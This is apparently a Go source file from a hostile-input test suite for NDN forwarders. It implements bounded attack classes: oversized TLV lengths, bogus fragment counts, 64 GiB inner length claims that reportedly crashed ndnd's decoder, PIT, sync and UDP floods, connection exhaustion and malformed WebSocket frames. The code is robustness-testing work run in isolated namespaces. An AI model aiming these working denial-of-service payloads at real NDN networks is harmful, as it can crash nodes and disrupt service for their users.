// Command attack sends one class of hostile input to NDN nodes, for the
// hostile-input suite (internal/hostile). It is meant to run in a network
// namespace of its own, and only ever at the addresses it is given: the
// suite passes the nodes' addresses inside its namespaces, their unix socket
// paths, and the NDN multicast group on the namespaces' bridge.
//
//	attack -class len-2^63 -udp 192.0.2.1:6363 -mcast 224.0.23.170:56363 \
//	       -tcp 192.0.2.1:6363 -ws ws://192.0.2.1:9696 -unix /tmp/x/nfd.sock
//	attack -list
//
// Every class is bounded in packets, connections and time (-budget). At the
// end it prints one JSON line: the class, packets and bytes sent, the
// connections opened, send errors (a refused or reset connection is what a
// node that closes a bad face does: counted, not fatal) and the duration.
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gorilla/websocket"
	"golang.org/x/net/ipv4"
)

type targets struct {
	udp   []string
	mcast string
	tcp   []string
	ws    []string
	unix  []string
}

// attacker holds the targets, the counters and the deadline of one run.
type attacker struct {
	t        targets
	group    string
	rng      *rand.Rand
	deadline time.Time

	packets, bytes, conns, errs atomic.Int64
	errMu                       sync.Mutex
	errKinds                    map[string]int
}

type class struct {
	name string
	what string
	run  func(a *attacker)
}

var classes = []class{
	{"len-2^63", "the 12-byte Interest 05 FF 80.. 07 00 (TLV-LENGTH > 2^63): datagrams, multicast, every stream", (*attacker).len263},
	{"len-2^64", "an Interest with TLV-LENGTH 2^64-16 (near 2^64), on every transport", (*attacker).len264},
	{"lp-frag-2^62", "NDNLP fragments claiming 2^62 fragments", (*attacker).fragHuge},
	{"lp-frag-2M", "16 NDNLP fragments of ~400 bytes, each claiming 2,000,000 fragments", (*attacker).frag2M},
	{"lp-frag-odd", "NDNLP fragments with index >= count, count 0, duplicates, changing counts, no fragment", (*attacker).fragOdd},
	{"tlv-header-alone", "a 4-byte TLV header (Data of 8192 bytes) alone, 20 times at 20/s; on streams, then silence", (*attacker).headerAlone},
	{"src-ports", "a valid Interest from each of 2,000 source ports, to every unicast UDP listener", (*attacker).srcPorts},
	{"random-streams", "4 KiB of random bytes on each of 40 unix, TCP and WebSocket connections per node", (*attacker).randomStreams},
	{"random-datagrams", "500 datagrams of random bytes and random length per node and to the group", (*attacker).randomDatagrams},
	{"truncated", "an Interest, a Sync Interest and an LpPacket cut at every length", (*attacker).truncated},
	{"nested", "nested garbage: 2,500-deep names, LpPackets in LpPackets, lengths past their parent, 9-byte types", (*attacker).nested},
	{"inner-lengths", "Interests under the sync group and a Data whose SignatureNonce, KeyDigest, ForwardingHint or FinalBlockId claims 64 GiB inside a short packet (ndnd's application decoder allocated what they claim), and FuzzClassify's Interest", (*attacker).innerLengths},
	{"zero-length", "zero-length datagrams, empty WebSocket messages, TLV 00 00, connections closed at once", (*attacker).zeroLength},
	{"max-size", "65,507-byte datagrams, 1 MiB WebSocket messages, streams of maximal TLV headers", (*attacker).maxSize},
	{"idle-conns", "300 TCP and 150 WebSocket-port connections per node (over the 256 a node may hold) held open 2 s, silent or mid-header", (*attacker).idleConns},
	{"ws-frames", "WebSocket text messages, a frame header claiming 2^63-1 bytes, a fragmented message never finished, a bad handshake", (*attacker).wsFrames},
	{"udp-storm", "one valid Interest again and again from 4 sockets per unicast UDP listener, as fast as they go, for the whole budget: a socket kept full", (*attacker).udpStorm},
	{"pit-flood", "30,000 valid Interests for fresh names under the sync group (forwarded to every member and node), 4 s lifetime", (*attacker).pitFlood},
	{"mgmt-remote", "NFD management commands (/localhost, /localhop) from the network", (*attacker).mgmtRemote},
	{"sync-flood", "valid SVS v3 Sync Interests, each with a fresh fake member name, to the group and every node", (*attacker).syncFlood},
}

func main() {
	var (
		name, udp, tcp, ws, unix, mcast, group string
		budget                                 time.Duration
		seed                                   uint64
		list                                   bool
		floodN                                 int
	)
	flag.StringVar(&name, "class", "", "the class to send (see -list)")
	flag.StringVar(&udp, "udp", "", "comma-separated UDP unicast targets ip:port")
	flag.StringVar(&mcast, "mcast", "", "UDP multicast group ip:port")
	flag.StringVar(&tcp, "tcp", "", "comma-separated TCP targets ip:port")
	flag.StringVar(&ws, "ws", "", "comma-separated WebSocket URLs")
	flag.StringVar(&unix, "unix", "", "comma-separated unix socket paths")
	flag.StringVar(&group, "group", "/ndn/svs", "sync group of the Sync Interest flood")
	flag.IntVar(&floodN, "flood", 20000, "Sync Interests (fake members) in the sync-flood class")
	flag.DurationVar(&budget, "budget", 8*time.Second, "most time a class may take")
	flag.Uint64Var(&seed, "seed", 1, "seed of the random bytes")
	flag.BoolVar(&list, "list", false, "list the classes and exit")
	flag.Parse()
	if list {
		for _, c := range classes {
			fmt.Printf("%s\t%s\n", c.name, c.what)
		}
		return
	}
	var c *class
	for i := range classes {
		if classes[i].name == name {
			c = &classes[i]
		}
	}
	if c == nil {
		fmt.Fprintf(os.Stderr, "attack: unknown class %q (see -list)\n", name)
		os.Exit(2)
	}
	a := &attacker{
		t: targets{
			udp: split(udp), mcast: mcast, tcp: split(tcp), ws: split(ws), unix: split(unix),
		},
		group:    group,
		rng:      rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		deadline: time.Now().Add(budget),
		errKinds: map[string]int{},
	}
	floodCount = floodN
	t0 := time.Now()
	c.run(a)
	kinds := make([]string, 0, len(a.errKinds))
	for k, n := range a.errKinds {
		kinds = append(kinds, fmt.Sprintf("%s x%d", k, n))
	}
	sort.Strings(kinds)
	_ = json.NewEncoder(os.Stdout).Encode(map[string]any{
		"class":   c.name,
		"packets": a.packets.Load(),
		"bytes":   a.bytes.Load(),
		"conns":   a.conns.Load(),
		"errors":  a.errs.Load(),
		"kinds":   kinds,
		"ms":      time.Since(t0).Milliseconds(),
		"cut":     time.Now().After(a.deadline),
	})
}

var floodCount int

func split(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

func (a *attacker) over() bool { return time.Now().After(a.deadline) }

func (a *attacker) fail(err error) {
	a.errs.Add(1)
	k := err.Error()
	// Keep the kind, not the addresses and ports.
	for _, w := range []string{"connection refused", "connection reset", "broken pipe", "i/o timeout", "no such file", "bad handshake", "network is unreachable", "message too long", "close sent", "use of closed"} {
		if strings.Contains(k, w) {
			k = w
			break
		}
	}
	if len(k) > 60 {
		k = k[:60]
	}
	a.errMu.Lock()
	a.errKinds[k]++
	a.errMu.Unlock()
}

func (a *attacker) sent(n int) {
	a.packets.Add(1)
	a.bytes.Add(int64(n))
}

// --- transports ---

// datagrams sends each payload once to every unicast UDP target (one
// socket per target) and to the multicast group.
func (a *attacker) datagrams(payloads ...[]byte) {
	a.datagramsTo(true, payloads...)
}

func (a *attacker) datagramsTo(mcast bool, payloads ...[]byte) {
	dsts := append([]string(nil), a.t.udp...)
	if mcast && a.t.mcast != "" {
		dsts = append(dsts, a.t.mcast)
	}
	for _, d := range dsts {
		c, err := net.Dial("udp4", d)
		if err != nil {
			a.fail(err)
			continue
		}
		for _, p := range payloads {
			if a.over() {
				break
			}
			if _, err := c.Write(p); err != nil {
				a.fail(err)
				continue
			}
			a.sent(len(p))
		}
		_ = c.Close()
	}
}

// streams opens one connection per target on every stream transport (unix,
// TCP, WebSocket), writes the payloads in order (each a WebSocket message
// of its own) and closes it.
func (a *attacker) streams(payloads ...[]byte) {
	var wg sync.WaitGroup
	for _, d := range a.t.unix {
		wg.Go(func() { a.stream("unix", d, 0, payloads...) })
	}
	for _, d := range a.t.tcp {
		wg.Go(func() { a.stream("tcp4", d, 0, payloads...) })
	}
	for _, d := range a.t.ws {
		wg.Go(func() { a.websocket(d, payloads...) })
	}
	wg.Wait()
}

// stream writes payloads on one connection, holds it hold, and closes it.
func (a *attacker) stream(network, addr string, hold time.Duration, payloads ...[]byte) {
	if a.over() {
		return
	}
	c, err := net.DialTimeout(network, addr, 2*time.Second)
	if err != nil {
		a.fail(err)
		return
	}
	defer c.Close()
	a.conns.Add(1)
	_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
	for _, p := range payloads {
		if _, err := c.Write(p); err != nil {
			a.fail(err)
			return
		}
		a.sent(len(p))
	}
	if hold > 0 {
		time.Sleep(min(hold, time.Until(a.deadline)))
	}
}

func (a *attacker) websocket(url string, payloads ...[]byte) {
	if a.over() {
		return
	}
	d := websocket.Dialer{HandshakeTimeout: 2 * time.Second}
	c, _, err := d.Dial(url, nil)
	if err != nil {
		a.fail(err)
		return
	}
	defer c.Close()
	a.conns.Add(1)
	_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
	for _, p := range payloads {
		if err := c.WriteMessage(websocket.BinaryMessage, p); err != nil {
			a.fail(err)
			return
		}
		a.sent(len(p))
	}
	_ = c.WriteControl(websocket.CloseMessage, websocket.FormatCloseMessage(websocket.CloseNormalClosure, ""), time.Now().Add(time.Second))
}

// everywhere sends the payloads as datagrams and on every stream transport.
func (a *attacker) everywhere(payloads ...[]byte) {
	a.datagrams(payloads...)
	a.streams(payloads...)
}

// --- TLV ---

func varNum(dst []byte, x uint64) []byte {
	switch {
	case x < 253:
		return append(dst, byte(x))
	case x <= 0xffff:
		return binary.BigEndian.AppendUint16(append(dst, 0xfd), uint16(x))
	case x <= 0xffffffff:
		return binary.BigEndian.AppendUint32(append(dst, 0xfe), uint32(x))
	}
	return binary.BigEndian.AppendUint64(append(dst, 0xff), x)
}

func tlv(typ uint64, value ...[]byte) []byte {
	n := 0
	for _, v := range value {
		n += len(v)
	}
	out := varNum(varNum(nil, typ), uint64(n))
	for _, v := range value {
		out = append(out, v...)
	}
	return out
}

func nonNeg(typ, x uint64) []byte {
	switch {
	case x <= 0xff:
		return tlv(typ, []byte{byte(x)})
	case x <= 0xffff:
		return tlv(typ, binary.BigEndian.AppendUint16(nil, uint16(x)))
	case x <= 0xffffffff:
		return tlv(typ, binary.BigEndian.AppendUint32(nil, uint32(x)))
	}
	return tlv(typ, binary.BigEndian.AppendUint64(nil, x))
}

// name encodes a URI of generic components (no escapes).
func name(uri string) []byte {
	var comps [][]byte
	for _, c := range strings.Split(strings.Trim(uri, "/"), "/") {
		comps = append(comps, tlv(0x08, []byte(c)))
	}
	return tlv(0x07, comps...)
}

func (a *attacker) interest(uri string) []byte {
	return tlv(0x05, name(uri), tlv(0x0a, binary.BigEndian.AppendUint32(nil, a.rng.Uint32())), nonNeg(0x0c, 1000))
}

// lpFrag is an LpPacket carrying one fragment.
func lpFrag(seq, index, count uint64, payload []byte) []byte {
	return tlv(0x64,
		tlv(0x51, binary.BigEndian.AppendUint64(nil, seq)),
		nonNeg(0x52, index),
		nonNeg(0x53, count),
		tlv(0x50, payload))
}

func (a *attacker) random(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(a.rng.Uint32())
	}
	return b
}

// --- classes ---

var len263 = []byte{0x05, 0xFF, 0x80, 0, 0, 0, 0, 0, 0, 0, 0x07, 0x00}

func (a *attacker) len263() {
	a.everywhere(len263, len263, len263)
}

func (a *attacker) len264() {
	p := []byte{0x05, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xF0, 0x07, 0x00}
	q := []byte{0x06, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x07, 0x00}
	a.everywhere(p, q, p)
}

func (a *attacker) fragHuge() {
	var ps [][]byte
	for i := range 4 {
		ps = append(ps, lpFrag(a.rng.Uint64(), uint64(i), 1<<62, a.random(300)))
	}
	a.everywhere(ps...)
}

func (a *attacker) frag2M() {
	var ps [][]byte
	for i := range 16 {
		ps = append(ps, lpFrag(a.rng.Uint64(), uint64(i), 2_000_000, a.random(370)))
	}
	a.everywhere(ps...)
}

func (a *attacker) fragOdd() {
	base := a.rng.Uint64()
	inner := a.interest("/hostile/frag/odd")
	ps := [][]byte{
		lpFrag(base, 5, 3, inner),                    // index past count
		lpFrag(base+1, 0, 0, inner),                  // count 0
		lpFrag(base+2, 0, 2, inner[:8]),              // first of two
		lpFrag(base+2, 0, 2, inner[:8]),              // duplicate
		lpFrag(base+3, 1, 3, inner[8:]),              // a later index first
		lpFrag(base+3, 0, 9, inner[:8]),              // the same packet with another count
		lpFrag(base+4, 0, 2, nil),                    // empty fragment
		lpFrag(base+5, 1, 2, inner[8:]),              // a sequence number that makes ...
		lpFrag(base+6, 0, 2, inner[:8]),              // ... an earlier one out of order
		tlv(0x64, tlv(0x51, []byte{1, 2, 3})),        // no fragment, bad sequence width
		tlv(0x64, nonNeg(0x52, 1), tlv(0x50, inner)), // index without count or sequence
		lpFrag(^uint64(0), 0, 1<<32, inner),
	}
	a.everywhere(ps...)
}

func (a *attacker) headerAlone() {
	h := []byte{0x06, 0xFD, 0x20, 0x00}
	var wg sync.WaitGroup
	for _, d := range a.t.unix {
		wg.Go(func() { a.stream("unix", d, time.Second, h) })
	}
	for _, d := range a.t.tcp {
		wg.Go(func() { a.stream("tcp4", d, time.Second, h) })
	}
	for i := 0; i < 20 && !a.over(); i++ {
		a.datagrams(h)
		time.Sleep(50 * time.Millisecond)
	}
	wg.Wait()
}

func (a *attacker) srcPorts() {
	var wg sync.WaitGroup
	for _, d := range a.t.udp {
		wg.Go(func() {
			for i := 0; i < 2000 && !a.over(); i++ {
				c, err := net.Dial("udp4", d)
				if err != nil {
					a.fail(err)
					continue
				}
				p := a.interestAt(i)
				if _, err := c.Write(p); err != nil {
					a.fail(err)
				} else {
					a.sent(len(p))
				}
				_ = c.Close()
			}
		})
	}
	wg.Wait()
}

var rngMu sync.Mutex

// interestAt is safe to call from several goroutines.
func (a *attacker) interestAt(i int) []byte {
	rngMu.Lock()
	defer rngMu.Unlock()
	return a.interest(fmt.Sprintf("/hostile/port/%d", i))
}

func (a *attacker) randomBlock(n int) []byte {
	rngMu.Lock()
	defer rngMu.Unlock()
	return a.random(n)
}

func (a *attacker) randomStreams() {
	var wg sync.WaitGroup
	for i := 0; i < 40 && !a.over(); i++ {
		for _, d := range a.t.unix {
			p := a.randomBlock(4096)
			wg.Go(func() { a.stream("unix", d, 0, p) })
		}
		for _, d := range a.t.tcp {
			p := a.randomBlock(4096)
			wg.Go(func() { a.stream("tcp4", d, 0, p) })
		}
		for _, d := range a.t.ws {
			p := a.randomBlock(4096)
			wg.Go(func() { a.websocket(d, p[:2048], p[2048:]) })
		}
		wg.Wait()
	}
}

func (a *attacker) randomDatagrams() {
	ps := make([][]byte, 500)
	for i := range ps {
		ps[i] = a.random(1 + a.rng.IntN(1400))
	}
	a.datagrams(ps...)
}

func (a *attacker) truncated() {
	full := [][]byte{
		a.interest("/hostile/truncated/interest"),
		a.syncInterest("/hostile/fake/truncated"),
		lpFrag(a.rng.Uint64(), 0, 1, a.interest("/hostile/truncated/lp")),
	}
	var cut [][]byte
	for _, p := range full {
		for n := 1; n < len(p); n++ {
			cut = append(cut, p[:n])
		}
	}
	a.datagrams(cut...)
	// On streams, one connection per cut (every 7th length, bounded).
	for i := 0; i < len(cut) && !a.over(); i += 7 {
		a.streams(cut[i])
	}
}

// innerLengths sends packets whose outer fields are sound, which the
// forwarder's own decoder passes on, but with an element inside
// SignatureInfo, a KeyLocator, a ForwardingHint or MetaInfo claiming 64 GiB:
// ndnd's application decoder (the members', the node's engine's, the
// applications') made a slice of that length before it looked for the
// bytes, and the process died of it.
func (a *attacker) innerLengths() {
	huge := func(typ uint64) []byte { return append(varNum(varNum(nil, typ), 1<<36), 1, 2, 3) }
	nm := func(s string) []byte { return name(a.group + "/hostile/inner/" + s) }
	nonce := func() []byte { return tlv(0x0a, binary.BigEndian.AppendUint32(nil, a.rng.Uint32())) }
	sigValue := tlv(0x2e, make([]byte, 32))
	ps := [][]byte{
		tlv(0x05, nm("nonce"), nonce(), tlv(0x24, []byte("p")), tlv(0x2c, nonNeg(0x1b, 0), huge(0x26)), sigValue),
		tlv(0x05, nm("key-digest"), nonce(), tlv(0x24, []byte("p")), tlv(0x2c, nonNeg(0x1b, 3), tlv(0x1c, huge(0x1d))), sigValue),
		tlv(0x05, nm("hint"), nonce(), tlv(0x1e, tlv(0x07, huge(0x08)))),
		tlv(0x06, nm("final-block"), tlv(0x14, huge(0x1a)), tlv(0x15, []byte("x")), tlv(0x16, nonNeg(0x1b, 0)), tlv(0x17, make([]byte, 32))),
		[]byte("\x050\a\xfem00 000000000000000000000000000000000\x0100\x000000000"),
	}
	a.everywhere(ps...)
}

func (a *attacker) nested() {
	deep := []byte{0x08, 0x00}
	for range 2500 {
		deep = tlv(0x07, deep)
	}
	lp := a.interest("/hostile/nested/lp")
	for range 100 {
		lp = tlv(0x64, tlv(0x50, lp))
	}
	ps := [][]byte{
		tlv(0x05, deep),
		lp,
		// A component longer than its name.
		{0x05, 0x08, 0x07, 0x06, 0x08, 0x20, 0x41, 0x41, 0x41, 0x41},
		// A name longer than its Interest.
		{0x05, 0x04, 0x07, 0xFD, 0x10, 0x00},
		// 9-byte VAR-NUMBER types inside and outside.
		{0xFF, 0, 0, 0, 1, 0, 0, 0, 5, 0x02, 0x07, 0x00},
		tlv(0x05, []byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x00}, name("/x")),
		// Unknown critical and non-critical elements in an Interest.
		tlv(0x05, name("/hostile/nested/crit"), tlv(0x0B, nil), tlv(0x0a, []byte{1, 2, 3, 4})),
		tlv(0x05, name("/hostile/nested/noncrit"), tlv(0xFD00, a.random(50)), tlv(0x0a, []byte{1, 2, 3, 4})),
		// An Interest with a 1,000 empty components.
		tlv(0x05, tlv(0x07, bytesRepeat([]byte{0x08, 0x00}, 1000)...), tlv(0x0a, []byte{1, 2, 3, 4})),
		// An LpPacket whose fragment is random, and one with a Nack of garbage.
		tlv(0x64, tlv(0x50, a.random(200))),
		tlv(0x64, tlv(0xFD0320, a.random(8)), tlv(0x50, a.interest("/hostile/nested/nack"))),
		// A Data whose Content claims more than the Data.
		{0x06, 0x0A, 0x07, 0x03, 0x08, 0x01, 0x41, 0x15, 0xFD, 0x20, 0x00, 0x00},
	}
	a.everywhere(ps...)
}

func bytesRepeat(b []byte, n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

func (a *attacker) zeroLength() {
	empty := make([][]byte, 100)
	for i := range empty {
		empty[i] = []byte{}
	}
	a.datagrams(empty...)
	a.datagrams([]byte{0x00, 0x00}, []byte{0x05, 0x00}, []byte{0x64, 0x00}, []byte{0x06, 0x00})
	a.streams([]byte{0x00, 0x00}, []byte{0x05, 0x00}, []byte{0x64, 0x00})
	for _, d := range a.t.ws {
		a.websocket(d, []byte{}, []byte{}, []byte{})
	}
	for range 50 {
		for _, d := range a.t.unix {
			a.stream("unix", d, 0)
		}
		for _, d := range a.t.tcp {
			a.stream("tcp4", d, 0)
		}
	}
}

func (a *attacker) maxSize() {
	const maxUDP = 65507
	var dg [][]byte
	for range 5 {
		dg = append(dg, a.random(maxUDP))
		big := append([]byte{0x06, 0xFD, 0xFF, 0xFB}, make([]byte, maxUDP-4)...)
		dg = append(dg, big)
		dg = append(dg, lpFrag(a.rng.Uint64(), 0, 1, make([]byte, maxUDP-40)))
	}
	a.datagrams(dg...)
	// Streams: an 8801-byte Data (over NDN's 8800), a 64 KiB one, then
	// 1 MiB that is one header claiming 2^32-1 bytes and zeros.
	over := append([]byte{0x06, 0xFD, 0x22, 0x61}, make([]byte, 8801)...)
	huge := append([]byte{0x06, 0xFE, 0x00, 0x01, 0x00, 0x00}, make([]byte, 1<<16)...)
	claim := append([]byte{0x06, 0xFE, 0xFF, 0xFF, 0xFF, 0xFF}, make([]byte, 1<<20)...)
	a.streams(over, huge, claim)
}

func (a *attacker) idleConns() {
	var wg sync.WaitGroup
	hold := 2 * time.Second
	for i := range 300 {
		for _, d := range a.t.tcp {
			p := []byte{0x05, 0xFD}[:i%3]
			wg.Go(func() { a.stream("tcp4", d, hold, p) })
		}
		if i >= 150 {
			continue
		}
		for _, u := range a.t.ws {
			host := strings.TrimPrefix(strings.TrimPrefix(u, "ws://"), "wss://")
			host, _, _ = strings.Cut(host, "/")
			p := []byte("GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n")[:i%40]
			wg.Go(func() { a.stream("tcp4", host, hold, p) })
		}
	}
	wg.Wait()
}

func (a *attacker) mgmtRemote() {
	var ps [][]byte
	for _, n := range []string{
		"/localhost/nfd/faces/list",
		"/localhost/nfd/strategy-choice/unset/garbage",
		"/localhost/nfd/faces/destroy/garbage",
		"/localhop/nfd/rib/register/garbage",
		"/localhost/nfd/rib/register/garbage",
		"/localhost/nfd/cs/erase/garbage",
	} {
		ps = append(ps, a.interest(n))
	}
	a.everywhere(ps...)
}

// syncInterest is a valid SVS v3 Sync Interest of the group whose vector
// holds one fresh fake member.
func (a *attacker) syncInterest(member string) []byte {
	p, err := encodeSync(a.group, member, uint64(time.Now().Unix()), 1, a.rng.Uint32())
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
	return p
}

func (a *attacker) syncFlood() {
	n := floodCount
	ps := make([][]byte, 0, n)
	for i := range n {
		ps = append(ps, a.syncInterest(fmt.Sprintf("/hostile/fake/%d/%x", i, a.rng.Uint32())))
	}
	// Spread over every destination, at most budget.
	dsts := append([]string(nil), a.t.udp...)
	if a.t.mcast != "" {
		dsts = append(dsts, a.t.mcast)
	}
	conns := make([]net.Conn, 0, len(dsts))
	for _, d := range dsts {
		c, err := net.Dial("udp4", d)
		if err != nil {
			a.fail(err)
			continue
		}
		defer c.Close()
		conns = append(conns, c)
	}
	if len(conns) == 0 {
		a.fail(errors.New("no destination"))
		return
	}
	for i, p := range ps {
		if a.over() {
			break
		}
		c := conns[i%len(conns)]
		if _, err := c.Write(p); err != nil {
			a.fail(err)
			continue
		}
		a.sent(len(p))
		if i%200 == 199 {
			time.Sleep(time.Millisecond) // bounded rate: no more than the socket buffers take
		}
	}
}

func (a *attacker) wsFrames() {
	for _, u := range a.t.ws {
		if a.over() {
			return
		}
		d := websocket.Dialer{HandshakeTimeout: 2 * time.Second}
		// Text messages carrying TLV, and an empty close.
		if c, _, err := d.Dial(u, nil); err != nil {
			a.fail(err)
		} else {
			a.conns.Add(1)
			for _, p := range [][]byte{len263, []byte("hello"), a.interest("/hostile/ws/text")} {
				if err := c.WriteMessage(websocket.TextMessage, p); err != nil {
					a.fail(err)
					break
				}
				a.sent(len(p))
			}
			_ = c.Close()
		}
		// Raw frames after a real handshake: a binary frame whose 64-bit
		// length is 2^63-1 (masked, as a client must), and a fragmented
		// message whose continuation never comes.
		for _, raw := range [][]byte{
			append([]byte{0x82, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3, 4}, a.random(64)...),
			append([]byte{0x02, 0x84, 1, 2, 3, 4}, 0x05^1, 0xFF^2, 0x80^3, 0^4),
		} {
			c, _, err := d.Dial(u, nil)
			if err != nil {
				a.fail(err)
				continue
			}
			a.conns.Add(1)
			nc := c.NetConn()
			_ = nc.SetWriteDeadline(time.Now().Add(2 * time.Second))
			if _, err := nc.Write(raw); err != nil {
				a.fail(err)
			} else {
				a.sent(len(raw))
			}
			time.Sleep(200 * time.Millisecond)
			_ = nc.Close()
		}
		// Not a WebSocket handshake at all.
		host := strings.TrimPrefix(u, "ws://")
		host, _, _ = strings.Cut(host, "/")
		a.stream("tcp4", host, 0, []byte("GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 99\r\n\r\n"))
		a.stream("tcp4", host, 0, len263)
	}
}

// udpStorm keeps each node's UDP sockets full for the whole budget: the
// same Interest (its nonce the same, so the forwarder drops it as a loop
// at once) from 4 sockets per listener, each sending batches of 64
// (sendmmsg) as fast as it can.
func (a *attacker) udpStorm() {
	p := tlv(0x05, name(strings.TrimSuffix(a.group, "/")+"/hostile/storm"),
		tlv(0x0a, binary.BigEndian.AppendUint32(nil, a.rng.Uint32())), nonNeg(0x0c, 4000))
	batch := make([]ipv4.Message, 64)
	for i := range batch {
		batch[i].Buffers = [][]byte{p}
	}
	var wg sync.WaitGroup
	for _, d := range a.t.udp {
		for range 4 {
			c, err := net.Dial("udp4", d)
			if err != nil {
				a.fail(err)
				continue
			}
			defer c.Close()
			pc := ipv4.NewPacketConn(c.(*net.UDPConn))
			wg.Go(func() {
				ms := slices.Clone(batch)
				for !a.over() {
					n, err := pc.WriteBatch(ms, 0)
					for range max(n, 0) {
						a.sent(len(p))
					}
					if err != nil {
						a.fail(err)
						time.Sleep(time.Millisecond) // refused (ICMP): the node is gone
					}
				}
			})
		}
	}
	wg.Wait()
}

func (a *attacker) pitFlood() {
	const n = 30000
	if len(a.t.udp) == 0 {
		return
	}
	conns := make([]net.Conn, 0, len(a.t.udp))
	for _, d := range a.t.udp {
		c, err := net.Dial("udp4", d)
		if err != nil {
			a.fail(err)
			continue
		}
		defer c.Close()
		conns = append(conns, c)
	}
	if len(conns) == 0 {
		return
	}
	for i := 0; i < n && !a.over(); i++ {
		p := tlv(0x05, name(fmt.Sprintf("%s/hostile/pit/%d/%x", strings.TrimSuffix(a.group, "/"), i, a.rng.Uint32())),
			tlv(0x0a, binary.BigEndian.AppendUint32(nil, a.rng.Uint32())), nonNeg(0x0c, 4000))
		if _, err := conns[i%len(conns)].Write(p); err != nil {
			a.fail(err)
			continue
		}
		a.sent(len(p))
		if i%200 == 199 {
			time.Sleep(time.Millisecond)
		}
	}
}
